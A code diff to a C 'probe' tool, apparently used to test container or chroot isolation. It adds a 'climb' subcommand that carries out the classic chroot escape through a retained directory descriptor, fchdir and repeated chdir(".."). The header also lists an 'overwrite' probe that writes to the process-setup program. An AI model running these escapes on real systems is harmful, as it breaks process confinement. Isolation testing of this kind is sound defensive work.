@@ -5,6 +5,7 @@
  *        probe swap A B: exchange two names until killed
  *        probe lock FILE: lock it and keep it so; or fail, as somebody else does
  *        probe lease FILE: lease it for writing and keep it so, whoever waits
+ *        probe climb: out of a root directory, by one that is open above it
  *        probe overwrite: write to the program that sets up other processes, once one is seen
  * Linked statically, to run in any root file system.
  */
@@ -19,6 +20,7 @@
 #include <sys/file.h>
 #include <sys/personality.h>
 #include <sys/prctl.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <unistd.h>
 
@@ -163,6 +165,24 @@ static int swap(const char *a, const char *b)
 	return 1;
 }
 
+/* As with every chroot(2): whoever stands above his root walks up to where the tree has an end. */
+static int climb(void)
+{
+	struct stat before = {0}, after = {0};
+	int above = open("/", O_RDONLY | O_DIRECTORY), r = stat("/", &before);
+
+	r |= mkdir("/climb", 0755) | chroot("/climb") | fchdir(above);
+	for (int i = 0; r == 0 && i < 64; i++)
+		r = chdir("..");
+	r |= chroot(".") | stat("/", &after);
+	if (r != 0) {
+		perror("climb");
+		return 1;
+	}
+	printf("climbed to %s root\n", before.st_dev == after.st_dev && before.st_ino == after.st_ino ? "its own" : "another");
+	return 0;
+}
+
 /* A descriptor of the program that process @pid runs, if it comes out of nowhere. */
 static int program_of(const char *pid)
 {
@@ -250,6 +270,7 @@ static const struct {
 	{"memory", probe_memory},           {"cpus", probe_cpus},
 	{"compat", probe_compat},           {"keyring", probe_keyring},
 	{"securebits", probe_securebits},   {"overwrite", overwrite},
+	{"climb", climb},
 };
 
 int main(int argc, char **argv)
